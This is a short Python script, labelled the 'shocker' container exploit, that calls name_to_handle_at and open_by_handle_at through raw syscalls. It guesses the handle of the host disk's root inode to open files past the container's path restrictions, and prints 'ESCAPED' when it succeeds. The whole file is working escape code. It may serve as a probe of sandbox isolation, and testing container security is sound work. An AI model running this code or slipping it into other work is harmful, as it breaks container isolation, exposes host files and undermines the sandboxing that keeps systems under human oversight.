"""Opens files by number, past every path: the "shocker" exploit of containers.

Success: a handle or a file.
"""

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
NAME_TO, OPEN_BY = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
if libc.syscall(NAME_TO, -100, b"/", handle, ctypes.byref(mount), 0) == 0:
    print("ESCAPED: has a handle")
root = os.open("/" if os.access("/", os.R_OK) else os.path.dirname(os.__file__), os.O_RDONLY | os.O_PATH)
guess = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2))
if libc.syscall(OPEN_BY, root, guess, os.O_RDONLY) >= 0:
    print("ESCAPED: opened the root of the disk")
print("done")
